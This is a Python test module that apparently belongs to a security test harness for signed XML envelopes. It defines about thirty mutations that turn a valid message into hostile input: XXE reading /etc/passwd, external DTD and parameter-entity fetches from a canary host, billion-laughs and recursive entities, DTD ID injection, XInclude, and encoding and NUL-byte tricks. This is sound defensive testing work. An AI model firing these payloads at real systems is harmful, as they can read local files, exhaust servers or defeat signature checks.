"""Class 12: bytes that are not, or not only, the XML that they seem to be."""

from __future__ import annotations

import gzip

from tests.harness.attacks.attack import sent, written
from tests.harness.attacks.canary import canary_url
from tests.harness.attacks.trees import before_root, without_declaration

_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))


@sent
def truncate(message: bytes) -> bytes:
    """Lose the last third, as a broken connection does."""
    return message[: len(message) * 2 // 3]


@sent
def trailing_junk(message: bytes) -> bytes:
    """A second document behind the first."""
    return message + b"<Envelope/>"


@sent
def junk_before_the_root(message: bytes) -> bytes:
    """Text where none may stand."""
    return before_root(message, b"junk")


@sent
def add_doctype(message: bytes) -> bytes:
    """A DTD with an entity. Signatures do not cover it: they still verify."""
    return before_root(message, b'<!DOCTYPE Envelope [<!ENTITY x "x">]>')


@sent
def doctype_without_anything(message: bytes) -> bytes:
    """The bare declaration."""
    return before_root(message, b"<!DOCTYPE Envelope>")


@sent
def doctype_from_the_web(message: bytes) -> bytes:
    """An external subset."""
    return before_root(message, f'<!DOCTYPE Envelope SYSTEM "http://{canary_url()}/e.dtd">'.encode())


@sent
def doctype_with_an_external_entity(message: bytes) -> bytes:
    """XXE: a file of the reader's machine as a value."""
    hostile = before_root(message, b'<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    return hostile.replace(b"<Itinerary>", b"<Itinerary>&x;", 1)


@sent
def doctype_with_a_parameter_entity(message: bytes) -> bytes:
    """An entity of the DTD itself, from the web."""
    entity = f'<!DOCTYPE Envelope [<!ENTITY % p SYSTEM "http://{canary_url()}/p.dtd"> %p;]>'
    return before_root(message, entity.encode())


@sent
def doctype_with_a_billion_laughs(message: bytes) -> bytes:
    """Entities of entities."""
    hostile = before_root(message, f'<!DOCTYPE Envelope [<!ENTITY l0 "ha">{_LAUGHS}]>'.encode())
    return hostile.replace(b"<Itinerary>", b"<Itinerary>&l9;", 1)


@sent
def doctype_with_a_loop(message: bytes) -> bytes:
    """Two entities, each made of the other."""
    hostile = before_root(message, b'<!DOCTYPE Envelope [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')
    return hostile.replace(b"<Itinerary>", b"<Itinerary>&a;", 1)


@sent
def doctype_that_adds_an_id(message: bytes) -> bytes:
    """A default attribute and an attribute of type ID, for verifiers that believe DTDs."""
    return before_root(message, b'<!DOCTYPE Envelope [<!ATTLIST Header Id ID "content">]>')


@sent
def doctype_behind_a_comment(message: bytes) -> bytes:
    """After a comment that says so too."""
    return before_root(message, b"<!-- <!DOCTYPE x> --><!DOCTYPE Envelope>")


@sent
def entity_nobody_declared(message: bytes) -> bytes:
    """Well known from HTML."""
    return message.replace(b"<Itinerary>", b"<Itinerary>&nbsp;", 1)


@written
def x_include_in_the_form(message: bytes) -> bytes:
    """Signed by all: whoever resolves it reads a file of ours."""
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://{canary_url()}/x"/>'
    return message.replace(b"<Itinerary>", b"<Itinerary>" + include.encode(), 1)


@sent
def schema_location_on_the_root(message: bytes) -> bytes:
    """A schema of the sender's, on the envelope."""
    xsi = (
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://{canary_url()}/"'
    )
    return message.replace(b"<Envelope>", f"<Envelope {xsi}>".encode(), 1)


@written
def type_named_by_the_instance(message: bytes) -> bytes:
    """xsi:type, signed by all: the sender says which type his value has."""
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xs="http://www.w3.org/2001/XMLSchema"'
    return message.replace(b"<TotalPersons>", f'<TotalPersons {xsi} xsi:type="xs:string">'.encode(), 1)


@sent
def transcode_to_utf16(message: bytes) -> bytes:
    """The same characters in UTF-16: signatures cover characters, so they still verify."""
    return without_declaration(message).decode().encode("utf-16")


@sent
def transcode_to_utf16_without_a_mark(message: bytes) -> bytes:
    """UTF-16 that does not say so."""
    return without_declaration(message).decode().encode("utf-16-be")


@sent
def transcode_to_utf7(message: bytes) -> bytes:
    """UTF-7, which hides every angle bracket from a filter."""
    return b'<?xml version="1.0" encoding="UTF-7"?>' + without_declaration(message).decode().encode("utf-7")


@sent
def transcode_to_latin(message: bytes) -> bytes:
    """A single-byte encoding, declared."""
    body = without_declaration(message).decode().encode("latin-1", "xmlcharrefreplace")
    return b'<?xml version="1.0" encoding="ISO-8859-1"?>' + body


@sent
def lie_about_the_encoding(message: bytes) -> bytes:
    """UTF-8 that says it is UTF-16."""
    return b'<?xml version="1.0" encoding="UTF-16"?>' + without_declaration(message)


@sent
def lie_about_ascii(message: bytes) -> bytes:
    """Vietnamese letters in what says it is ASCII."""
    return b'<?xml version="1.0" encoding="US-ASCII"?>' + without_declaration(message)


@sent
def xml_1_1(message: bytes) -> bytes:
    """Another XML: other names, other white space."""
    return b'<?xml version="1.1" encoding="UTF-8"?>' + without_declaration(message)


@sent
def nul_in_a_value(message: bytes) -> bytes:
    """Where C code may stop reading."""
    return message.replace(b"<Itinerary>", b"<Itinerary>\0", 1)


@sent
def reference_to_nul(message: bytes) -> bytes:
    """The same as a character reference."""
    return message.replace(b"<Itinerary>", b"<Itinerary>&#0;", 1)


@sent
def reference_to_a_control_character(message: bytes) -> bytes:
    """No character of XML 1.0."""
    return message.replace(b"<Itinerary>", b"<Itinerary>&#x1F;", 1)


@sent
def overlong_utf8(message: bytes) -> bytes:
    """An angle bracket in two bytes."""
    return message.replace(b"<Itinerary>", b"<Itinerary>\xc0\xbc", 1)


@sent
def surrogate_in_utf8(message: bytes) -> bytes:
    """Half a character."""
    return message.replace(b"<Itinerary>", b"<Itinerary>\xed\xa0\x80", 1)


@sent
def half_a_letter(message: bytes) -> bytes:
    """A letter cut in two."""
    return message.replace(b"<Itinerary>", b"<Itinerary>\xe1\xba", 1)


@sent
def compressed(message: bytes) -> bytes:
    """gzip that nobody agreed to."""
    return gzip.compress(message, mtime=0)


@sent
def nothing_at_all(message: bytes) -> bytes:
    """An empty body."""
    return message[:0]


@sent
def another_format(message: bytes) -> bytes:
    """JSON."""
    return b'{"Envelope": {"size": %d}}' % len(message)


@sent
def another_document(message: bytes) -> bytes:
    """XML of something else."""
    return b"<html><!-- %d --></html>" % len(message)
